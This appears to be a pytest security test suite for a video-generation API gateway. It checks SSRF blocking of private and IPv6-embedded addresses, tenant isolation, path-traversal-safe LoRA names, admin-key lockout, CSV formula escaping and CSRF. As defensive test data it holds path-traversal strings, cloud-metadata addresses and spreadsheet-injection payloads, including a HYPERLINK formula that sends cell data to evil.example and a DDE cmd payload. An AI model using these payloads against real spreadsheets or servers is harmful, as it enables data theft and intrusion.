"""Nothing reaches where it does not belong: input URLs stay off internal networks, ordinary keys
see no other tenant's work or the network layout, LoRA names stay names, admins cannot lock
themselves out, batch manifests carry no spreadsheet formulas, dashboard forms work with CSRF."""

from __future__ import annotations

import asyncio
import csv
import io
import ipaddress
import re
import subprocess
import sys
import time
import zipfile

import httpx
import pytest

from gateway_proc import GatewayProcess, free_port, remember_secret, until, wait_for
from test_auth import admin, make_key  # noqa: F401 (`admin`: a client of this module's `gw`)
from x2v_gateway.inputs import NotPublic, PublicOnlyTransport, is_public_address


@pytest.fixture(scope="module")
def gw(tmp_path_factory) -> GatewayProcess:
    # Demo jobs of 3 s: long enough to catch one on its node.
    gateway = GatewayProcess(tmp_path_factory.mktemp("leaks") / "data", X2V_DEMO_JOB_SECONDS="3").start()
    yield gateway
    gateway.stop()


def admin_key(by: httpx.Client) -> str:
    # test_auth.make_key's first parameter is named `admin`, so it cannot pass `admin=True`.
    response = by.post("/api/v1/keys", json={"name": f"admin-{time.monotonic_ns()}", "admin": True})
    assert response.status_code == 201, response.text
    return remember_secret(response.json()["key"])


# -- input URLs: IPv4 addresses hidden in IPv6 ones ----------------------------------------------

NOT_PUBLIC = [
    "127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
    "0.0.0.0", "224.0.0.1", "239.255.255.250", "255.255.255.255",
    "::1", "::", "fe80::1", "fc00::1", "fd12:3456::1", "ff02::1", "ff0e::1",
    # IPv4-mapped and IPv4-compatible
    "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "::169.254.169.254",
    # IPv4-translated (SIIT)
    "::ffff:0:127.0.0.1", "::ffff:0:192.168.0.1",
    # NAT64, the well-known prefix and the local-use one
    "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b::c0a8:101", "64:ff9b:1::a00:1",
    "64:ff9b:1::808:808",
    # 6to4 of 127.0.0.1, 10.0.0.1 and 169.254.169.254
    "2002:7f00:1::", "2002:a00:1::1", "2002:a9fe:a9fe::",
    # Teredo: a client at 127.0.0.1 and at 10.0.0.1 (its address is stored XOR-ed with ones)
    "2001:0:4136:e378:8000:63bf:80ff:fffe", "2001:0:4136:e378:8000:63bf:f5ff:fffe",
    # Teredo with a public client behind a private server
    "2001:0:a00:1:8000:63bf:f7f7:f7f7",
    # ISATAP interface ids carrying a private IPv4 address
    "2600:1f00::5efe:a00:1", "2600:1f00::200:5efe:c0a8:1",
]
PUBLIC = [
    "8.8.8.8", "1.1.1.1", "2606:4700:4700::1111", "2a00:1450:4001:80b::200e",
    "64:ff9b::808:808", "2002:808:808::1", "2001:0:4136:e378:8000:63bf:f7f7:f7f7",
    "2600:1f00::5efe:808:808",
]


@pytest.mark.parametrize("address", NOT_PUBLIC)
def test_private_addresses_and_ipv6_forms_that_carry_them_are_not_public(address):
    assert not is_public_address(ipaddress.ip_address(address))


@pytest.mark.parametrize("address", PUBLIC)
def test_public_addresses_and_ipv6_forms_of_public_ipv4_are_public(address):
    assert is_public_address(ipaddress.ip_address(address))


@pytest.mark.parametrize("host", ["64:ff9b::7f00:1", "2002:7f00:1::1", "::ffff:0:127.0.0.1"])
def test_input_url_naming_loopback_through_ipv6_is_refused_before_any_connection(host):
    async def fetch() -> httpx.Response:
        async with httpx.AsyncClient(transport=PublicOnlyTransport()) as client:
            return await client.get(f"http://[{host}]:8080/face.png")

    with pytest.raises(NotPublic, match="private or local address"):
        asyncio.run(fetch())


# -- nodes: an ordinary key sees capacity and state, not others' work or the network layout -----


def test_ordinary_key_sees_no_node_urls_errors_or_other_tenants_jobs(gw, admin):
    alice, bob = make_key(admin, "alice"), make_key(admin, "bob")
    # A second node nobody listens on: it fails, with an error only admins may read.
    dead = f"http://127.0.0.1:{free_port()}"
    assert admin.post("/api/v1/nodes", json={"name": "dead", "url": dead}).status_code == 201
    with gw.client(key=alice) as as_alice, gw.client(key=bob) as as_bob:
        job = as_bob.post("/api/v1/jobs", json={"task": "t2v", "prompt": "bob's secret plan"}).json()
        until(lambda: job["id"] in str(admin.get("/api/v1/nodes").json()))
        until(lambda: admin.get("/api/v1/nodes/dead").json()["last_error"])
        everything = admin.get("/api/v1/nodes").json()
        demo = next(n for n in everything if n["name"] == "demo")
        assert demo["url"].startswith("http://127.0.0.1:")

        seen_by_alice = as_alice.get("/api/v1/nodes")
        assert seen_by_alice.status_code == 200
        for node in seen_by_alice.json():
            assert node["url"] is None and node["last_error"] is None
            assert node["running"] == [] and node["queued"] == []
            assert node["capacity"] >= 1 and node["state"] in {"up", "down", "unknown", "draining"}
        one = as_alice.get("/api/v1/nodes/dead").json()
        assert one["url"] is None and one["last_error"] is None
        for text in (seen_by_alice.text, one and str(one)):
            assert job["id"] not in text and demo["url"] not in text and dead not in text
            assert "127.0.0.1" not in text

        # Bob sees his own job where it runs, and still no URL.
        bobs = {n["name"]: n for n in as_bob.get("/api/v1/nodes").json()}
        assert job["id"] in bobs["demo"]["running"] + bobs["demo"]["queued"]
        assert bobs["demo"]["url"] is None

        # The dashboard's nodes page and its live table show Alice the same.
        for path in ("/ui/nodes", "/ui/nodes/table", "/ui/"):
            page = as_alice.get(path)
            assert page.status_code == 200, (path, page.text)
            assert job["id"] not in page.text and "127.0.0.1" not in page.text, path
        assert "127.0.0.1" in admin.get("/ui/nodes/table").text
        wait_for(as_bob, job["id"], {"succeeded"})
    assert admin.delete("/api/v1/nodes/dead").status_code == 204


# -- lora_name: a file name on the node, never a path -------------------------------------------

BAD_LORA_NAMES = ["../../../etc/passwd", "/etc/passwd", "loras/../../secret", "a\\b", "..",
                  "x\x00y", "style\n", "tab\tname", ".hidden", "-rf", "x" * 129, "naïve.safetensors"]


@pytest.mark.parametrize("name", BAD_LORA_NAMES)
def test_lora_name_that_is_not_a_plain_file_name_is_refused_naming_the_field(admin, name):
    as_json = admin.post("/api/v1/jobs", json={"task": "t2v", "prompt": "a cat", "lora_name": name})
    assert as_json.status_code == 422, as_json.text
    assert as_json.json()["error"]["field"] == "lora_name"
    as_form = admin.post("/api/v1/jobs", files={"task": (None, "t2v"), "prompt": (None, "a cat"),
                                                "lora_name": (None, name)})
    assert as_form.status_code == 422 and as_form.json()["error"]["field"] == "lora_name", as_form.text


def test_plain_lora_file_name_is_accepted_and_kept(admin):
    job = admin.post("/api/v1/jobs", json={"task": "t2v", "prompt": "a cat",
                                           "lora_name": "anime_style-v1.2.safetensors"})
    assert job.status_code == 201, job.text
    assert job.json()["params"]["lora_name"] == "anime_style-v1.2.safetensors"


# -- admin keys: the API cannot lock every admin out ---------------------------------------------


def test_key_in_x2v_admin_key_cannot_be_revoked_through_the_api(gw, admin):
    env_id = admin.get("/api/v1/me").json()["id"]
    refused = admin.delete(f"/api/v1/keys/{env_id}")
    assert refused.status_code == 409, refused.text
    assert refused.json()["error"]["field"] == "key_id"
    assert "X2V_ADMIN_KEY" in refused.json()["error"]["message"]
    # Not from another admin key either, and it still works.
    other = admin_key(admin)
    with gw.client(key=other) as second:
        assert second.delete(f"/api/v1/keys/{env_id}").status_code == 409
        second_id = second.get("/api/v1/me").json()["id"]
    assert admin.get("/api/v1/me").status_code == 200
    # Any other admin key may go: the env key is still there.
    assert admin.delete(f"/api/v1/keys/{second_id}").status_code == 200


def test_last_admin_key_cannot_be_revoked_even_by_two_revokes_at_once(tmp_path):
    gateway = GatewayProcess(tmp_path / "data", X2V_ADMIN_KEY="").start()
    try:
        first = remember_secret((gateway.data_dir / "first-admin-key").read_text().strip())
        with gateway.client(key=first) as one:
            first_id = one.get("/api/v1/me").json()["id"]
            second = admin_key(one)
            ordinary = make_key(one, "ordinary")
        with gateway.client(key=second) as two:
            second_id = two.get("/api/v1/me").json()["id"]

        # Each of the two admins revokes itself, at the same moment: each sees the other still
        # there, and without the check in the revoking transaction both would go.
        async def both() -> list[httpx.Response]:
            async def revoke(key: str, target: str) -> httpx.Response:
                async with httpx.AsyncClient(base_url=gateway.url, timeout=30,
                                             headers={"Authorization": f"Bearer {key}"}) as client:
                    return await client.delete(f"/api/v1/keys/{target}")

            return await asyncio.gather(revoke(first, first_id), revoke(second, second_id))

        answers = asyncio.run(both())
        assert sorted(a.status_code for a in answers) == [200, 409], [a.text for a in answers]
        survivor = second if answers[0].status_code == 200 else first
        with gateway.client(key=survivor) as last:
            me = last.get("/api/v1/me").json()
            assert me["admin"] is True
            alone = last.delete(f"/api/v1/keys/{me['id']}")
            assert alone.status_code == 409 and "last working admin key" in alone.json()["error"]["message"]
            assert alone.json()["error"]["field"] == "key_id"
            # An ordinary key is no admin: it may still be revoked, and the admin stays.
            ordinary_id = next(k["id"] for k in last.get("/api/v1/keys").json() if not k["admin"])
            assert last.delete(f"/api/v1/keys/{ordinary_id}").status_code == 200
            assert last.get("/api/v1/me").status_code == 200
        assert ordinary

        # The operator on the server may still do it, and is told what that means.
        cli = subprocess.run(
            [sys.executable, "-m", "x2v_gateway.cli", "keys", "revoke", me["id"], "--env-file", "/nonexistent"],
            env=gateway.env, capture_output=True, text=True, timeout=60,
        )
        assert cli.returncode == 0, cli.stderr
        assert "No admin key works now" in cli.stderr and "keys create --admin" in cli.stderr
        with gateway.client(key=survivor) as gone:
            # A revoke from another process takes effect within the 2 s a key is cached.
            until(lambda: gone.get("/api/v1/me").status_code == 401, 10, "the CLI's revoke")
    finally:
        gateway.stop()


# -- manifest.csv: user text is never a spreadsheet formula --------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1"]


def test_batch_manifest_keeps_formula_like_prompts_as_text(admin):
    batch = f"csv-{time.monotonic_ns()}"
    for prompt in [*FORMULAS, "a cat - surfing = fun"]:
        job = admin.post("/api/v1/jobs", json={"task": "t2v", "prompt": prompt, "batch_id": batch,
                                               "negative_prompt": "=1+1", "lora_name": "style.safetensors"})
        assert job.status_code == 201, job.text
    response = admin.get(f"/ui/batches/{batch}/videos.zip")
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert sorted(row["prompt"] for row in rows) == sorted(["'" + f for f in FORMULAS] + ["a cat - surfing = fun"])
    for row in rows:
        assert row["negative_prompt"] == "'=1+1"
        # No cell of any row starts as a formula would.
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


# -- CSRF: the token field a signed-in form carries is no job field ------------------------------


def test_signed_in_form_post_of_a_job_with_its_csrf_token_field_is_accepted(gw):
    cookie = gw.sign_in()
    with gw.client(key=None) as browser:
        browser.cookies.set("x2v_session", cookie)
        home = browser.get("/ui/")
        token = re.search(r'name="csrf-token" content="([^"]+)"', home.text).group(1)
        job = browser.post("/api/v1/jobs", data={"task": "t2v", "prompt": "a form's cat", "_csrf_token": token})
        assert job.status_code == 201, job.text
        assert job.json()["params"]["prompt"] == "a form's cat" and "_csrf_token" not in job.json()["params"]
        # The token is still checked: a wrong one is refused before anything else.
        forged = browser.post("/api/v1/jobs", data={"task": "t2v", "prompt": "x", "_csrf_token": "forged"})
        assert forged.status_code == 403
        # A multipart form that sends it in the header and as a field is accepted too.
        upload = browser.post("/api/v1/jobs", headers={"X-CSRFToken": token},
                              files={"task": (None, "t2v"), "prompt": (None, "y"), "_csrf_token": (None, token)})
        assert upload.status_code == 201, upload.text
